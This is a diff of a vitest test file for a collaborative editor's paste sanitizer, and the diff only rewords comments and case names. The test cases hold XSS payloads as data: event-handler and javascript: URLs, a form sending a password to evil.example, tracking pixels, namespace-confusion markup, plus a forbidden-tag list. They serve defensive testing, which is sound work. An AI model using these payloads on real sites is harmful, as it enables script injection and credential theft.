@@ -1,5 +1,5 @@
 // @vitest-environment jsdom
-/** Pages that mean harm, pasted: their words stay, and nothing of them runs, loads or covers anything, here or there. */
+/** Pasted hostile pages keep their text, and nothing of them runs, loads or covers the page, locally or remotely. */
 import { expect, test } from 'vitest';
 import { TEXT_ROOT } from '#contract/document-schema.ts';
 import { lintUpdate } from '#contract/lint-update.ts';
@@ -11,7 +11,7 @@ seatTwo();
 const FORBIDDEN =
   'script, iframe, object, embed, form, base, meta, link, math, style, video, audio, template, frame';
 
-/** Attributes that run, load or lead somewhere, in what is drawn. */
+/** Drawn attributes that run code, load resources or link. */
 const badAttributes = ({ editor }: Seat): string[] =>
   [...editor.view.dom.querySelectorAll('*')].flatMap((element) =>
     [...element.attributes]
@@ -26,13 +26,13 @@ const shared = ({ doc }: Seat): string => doc.getXmlFragment(TEXT_ROOT).toJSON()
 
 test.each([
   ['a script', '<p>words</p><script>alarm()</script>'],
-  ['a picture that fails', '<p>words<img src="x" onerror="alarm()"></p>'],
+  ['an image that fails', '<p>words<img src="x" onerror="alarm()"></p>'],
   [
     'a drawing that loads',
     '<p>words</p><svg onload="alarm()"><script>alarm()</script><a xlink:href="javascript:alarm()"><text>x</text></a></svg>',
   ],
   [
-    'a page in the page',
+    'a nested page',
     '<p>words</p><iframe srcdoc="<script>parent.alarm()</script>"></iframe><iframe src="javascript:parent.alarm()"></iframe>',
   ],
   [
@@ -40,15 +40,15 @@ test.each([
     '<form action="https://evil.example/"><p>words</p><input name="password" autofocus onfocus="alarm()"><button formaction="javascript:alarm()">x</button></form>',
   ],
   [
-    'what moves all addresses',
+    'a base address and a redirect',
     '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alarm()"><p>words <a href="a">x</a></p>',
   ],
   [
-    'looks that cover the page',
+    'styles that cover the page',
     '<style>*{background:url(https://evil.example/)}</style><p style="position:fixed;inset:0;background:url(https://evil.example/)">words</p>',
   ],
   [
-    'namespaces that swap places',
+    'namespace confusion',
     '<math><mtext><table><mglyph><style><img src=x onerror=alarm()></style></mglyph></table></mtext></math><p>words</p>',
   ],
   [
@@ -56,19 +56,19 @@ test.each([
     '<template><img src=x onerror=alarm()></template><p>words</p><details open ontoggle="alarm()"><summary>x</summary></details>',
   ],
   [
-    'an address in disguise',
+    'an obfuscated address',
     '<p>words <a href="java&#10;script:alarm()">a</a> <a href="&#1;javascript:alarm()">b</a> <a href="data:text/html,<script>alarm()</script>">c</a> <a href="vbscript:alarm()">d</a></p>',
   ],
   [
-    'a mark of ours that is not',
+    'a forged node of our own',
     '<p data-pm-slice="0 0 []">words<span data-type="mention" data-id="&quot; onclick=&quot;alarm()" data-label="<img src=x onerror=alarm()>"></span></p>',
   ],
   [
-    'a picture that tells who reads',
+    'a tracking image',
     '<p>words<img src="https://evil.example/pixel.gif"><img data-src="https://evil.example/pixel.gif" srcset="https://evil.example/2.gif 2x"></p>',
   ],
-  // Browsers themselves build no more than 512.
-  ['elements within elements', `<p>words</p>${'<div>'.repeat(500)}deep`],
+  // Browsers themselves nest at most 512 elements.
+  ['deeply nested elements', `<p>words</p>${'<div>'.repeat(500)}deep`],
 ])('%s', (_what, html) => {
   paste(jana, { html, text: 'words' });
   for (const seat of [jana, petr]) {
@@ -82,7 +82,7 @@ test.each([
   expect(shared(jana)).toBe(shared(petr));
 });
 
-test('whatever was pasted is what the log takes', () => {
+test('a hostile paste results only in updates that the log accepts', () => {
   let refused = 0;
   jana.doc.on('update', (update: Uint8Array) => (refused += Number(!lintUpdate(update).ok)));
   paste(jana, {
